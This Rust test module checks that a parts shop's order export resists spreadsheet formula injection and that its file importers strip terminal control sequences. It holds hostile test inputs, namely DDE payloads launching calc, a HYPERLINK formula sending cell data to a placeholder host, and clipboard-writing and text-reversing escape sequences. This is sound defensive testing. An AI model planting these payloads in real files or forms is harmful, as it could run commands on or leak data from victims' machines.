//! Hostile text in files: orders opened in a spreadsheet program, and supplier files imported in a terminal.

use crate::{
    report::Report,
    shop::{Shop, said},
    support::Site,
};
use serde_json::json;
use std::fs;

/// Addresses that a spreadsheet program would run as formulas, depending on the separator.
const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"https://x.example/\"&A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "1 Road;=cmd|' /C calc'!A0",
    "1 Road;\"=cmd|' /C calc'!A0\"",
    "1 Road; \u{a0}@SUM(A1)",
    "1 Road\n=cmd|' /C calc'!A0",
    "1 Road\t-A1+A2",
    "\u{ff1d}cmd|' /C calc'!A0",
    "\u{ff0b}A1",
    "\u{200b}\u{ad}=cmd|' /C calc'!A0",
];

/// Whether a program that splits cells at these separators, and ignores quotation marks, would run a cell.
fn runs(file: &str, separators: &[char]) -> bool {
    file.split(separators).any(|cell| {
        let seen = cell.trim_start_matches(|sign: char| {
            sign.is_whitespace() || sign.is_control() || matches!(sign, '"' | '\u{ad}' | '\u{200b}' | '\u{feff}')
        });
        // The order's telephone number is not a formula.
        seen.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}']) && !seen.starts_with("+1 (937) 555-0148")
    })
}

pub(crate) async fn formulas_in_exported_orders(mut report: Report) -> Report {
    let shop = Shop::open().await;
    let phone = "+1 (937) 555-0148";
    let order = |address: &str| json!({ "orderedId": shop.part, "quantity": 1, "address": address, "phone": phone });
    let export = async || {
        let request = shop.server.request("GET", "/exports/orders?state=unpaid").bearer_auth(&shop.admin.token);
        request.send().await.unwrap().text().await.unwrap()
    };
    let honest = shop.server.try_call(&shop.marta, "POST", "/orders", Some(order("48 Foundry Lane; back door"))).await;
    assert_eq!(honest.0, 201, "{honest:?}");
    let file = export().await;
    assert!(file.contains("48 Foundry Lane; back door") && file.contains(&format!(",{phone},")), "{file}");
    for formula in FORMULAS {
        let answer = shop.server.try_call(&shop.marta, "POST", "/orders", Some(order(formula))).await;
        let file = export().await;
        let has_run = [&[','][..], &[';'], &['\t'], &['\n', '\r'], &[';', '\t', '\n', '\r']]
            .iter()
            .any(|separators| runs(&file, separators));
        let id = answer.1["insertedId"].as_str().unwrap_or_default().to_owned();
        report.case(format_args!("an address {formula:?} in the export of orders"), !has_run, said(&answer));
        if !id.is_empty() {
            shop.server.try_call(&shop.marta, "DELETE", &format!("/orders/{id}"), None).await;
        }
    }
    report
}

/// Terminal control sequences: they clear the screen, write to the clipboard, set the title, and reverse the line.
const SEQUENCES: [&str; 6] =
    ["\u{1b}[2J", "\u{1b}]52;c;cm0=\u{7}", "\u{9b}31m", "\u{8}\u{8}ok", "\r\u{7f}", "\u{202e}fdp"];

pub(crate) async fn control_sequences_in_imported_files(mut report: Report) -> Report {
    let site = Site::new();
    site.succeed(&["seed"]);
    let is_obeyed = |sign: char| sign != '\n' && (sign.is_control() || matches!(sign, '\u{202a}'..='\u{202e}'));
    for sequence in SEQUENCES {
        for (kind, file, text) in [
            (
                "fitment",
                "fitment.csv",
                format!("brand,number,make,model,year_from,{sequence}\n{sequence}x,N,{sequence}y,z,2018,\n"),
            ),
            ("parts", "parts.csv", format!("brand,number,price,x{sequence}\nironclad{sequence},A1,{sequence}\n")),
            (
                "aces",
                "aces.xml",
                format!(
                    "<ACES version=\"4.2\"><Header><BrandAAIAID>Z{sequence}</BrandAAIAID></Header>\
                     <App action=\"A\"><BaseVehicle id=\"1{sequence}\"/><Part>P{sequence}</Part></App></ACES>"
                ),
            ),
        ] {
            fs::write(site.path(file), text).unwrap();
            let ended = site.run(&["import", kind, file]);
            let seen = format!("{}{}", ended.stdout, ended.stderr);
            report.case(
                format_args!("{sequence:?} in a file of {kind}"),
                !seen.contains(is_obeyed),
                format!("{seen:?}"),
            );
        }
        fs::write(site.path("codes.csv"), format!("scheme,kind,code,value\naces,make,4{sequence}7,{sequence}\n"))
            .unwrap();
        let ended = site.run(&["lookups", "import", "codes.csv"]);
        let seen = format!("{}{}", ended.stdout, ended.stderr);
        report.case(format_args!("{sequence:?} in a file of codes"), !seen.contains(is_obeyed), format!("{seen:?}"));
        let missing = site.run(&["import", "parts", &format!("{sequence}.csv")]);
        let seen = format!("{}{}", missing.stdout, missing.stderr);
        report.case(format_args!("{sequence:?} in the name of a file"), !seen.contains(is_obeyed), format!("{seen:?}"));
    }
    report
}
